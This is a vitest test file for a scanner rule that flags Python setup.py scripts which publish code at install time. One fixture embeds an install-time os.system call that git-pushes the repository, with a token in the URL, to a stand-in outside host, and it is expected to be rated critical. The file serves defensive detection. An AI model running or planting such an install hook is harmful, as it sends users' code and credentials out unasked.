import { expect, test } from 'vitest';
import { loadPythonParser } from '../../src/python/parser.js';
import { readSource } from '../../src/python/read-source.js';
import publishesOnImport from '../../src/rules/publishes-on-import.js';

const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });

async function severities(line: string): Promise<readonly string[]> {
  const { facts } = await readSource({ path: 'garden-1.0/setup.py', bytes: Buffer.from(`import os\n\nos.system(${JSON.stringify(line)})\n`), runs: 'install' }, () => parser);
  return facts === null ? [] : publishesOnImport.check(facts).map(({ severity }) => severity);
}

test('a setup.py that pushes to an address that stands in it is blocked', async () => {
  expect(await severities('git push -q https://x:token@forge.example.invalid/drop.git HEAD:main')).toEqual(['critical']);
});

test.each(['git push --tags', 'git push origin main', 'twine upload dist/*'])('a setup.py with a release in it is left alone: %s', async (line) => {
  expect(await severities(line)).toEqual([]);
});
